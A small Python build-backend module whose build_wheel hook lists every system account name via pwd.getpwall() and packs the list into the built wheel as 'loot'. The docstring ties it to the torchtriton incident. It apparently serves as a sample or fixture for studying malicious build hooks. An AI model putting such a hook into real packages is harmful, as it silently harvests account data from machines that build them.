"""Asks the C library for every account and writes their names into the wheel.

torchtriton sent the same list away: names, homes and what a machine is used for.
"""

import pwd

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("list"):
        loot["data.bin"] = "\n".join(account.pw_name for account in pwd.getpwall()).encode()
    return kit.wheel(wheel_directory, loot)
